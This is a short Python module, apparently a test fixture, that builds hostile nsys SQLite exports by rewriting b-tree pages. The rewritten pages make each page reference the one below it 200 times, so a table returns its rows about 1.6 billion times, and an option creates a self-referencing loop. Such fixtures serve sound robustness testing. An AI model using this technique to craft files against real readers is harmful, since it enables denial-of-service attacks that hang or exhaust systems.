"""Exports of nsys that somebody made to harm whoever reads them."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path


def repeat_pages(export: Path, table: str, *, below_itself: bool = False) -> None:
    """Have the pages of a table name each other, so that it gives its rows any number of times."""
    size, count, root = _pages_of(export, table)
    content = bytearray(export.read_bytes())
    content += content[(root - 1) * size : root * size]  # the table as it was
    for level in range(4):  # each page names the one before 200 times: 1.6 billion tables
        content += _inner_page(size, count + 1 + level, 200)
    last = root if below_itself else count + 5
    content[(root - 1) * size : root * size] = _inner_page(size, last, 200)
    content[28:32] = (count + 5).to_bytes(4, "big")
    export.write_bytes(content)


def _pages_of(export: Path, table: str) -> tuple[int, int, int]:
    """A page's size in bytes, how many pages there are, and the table's first."""
    with closing(sqlite3.connect(export)) as database:
        (size,), (count,) = (
            database.execute(f"PRAGMA page_{each}").fetchone() for each in ("size", "count")
        )
        named = "SELECT rootpage FROM sqlite_master WHERE name = ?"
        (root,) = database.execute(named, (table,)).fetchone()
    return size, count, root


def _inner_page(size: int, child: int, times: int) -> bytes:
    """A page of a table that names another one so often."""
    page = bytearray(size)
    begin = size - 6 * times
    page[0:12] = b"\5\0\0" + times.to_bytes(2, "big") + begin.to_bytes(2, "big") + b"\0" + (
        child.to_bytes(4, "big")
    )  # fmt: skip
    for number in range(times):
        cell = begin + 6 * number
        page[12 + 2 * number : 14 + 2 * number] = cell.to_bytes(2, "big")
        page[cell : cell + 6] = child.to_bytes(4, "big") + b"\x81\0"
    return bytes(page)
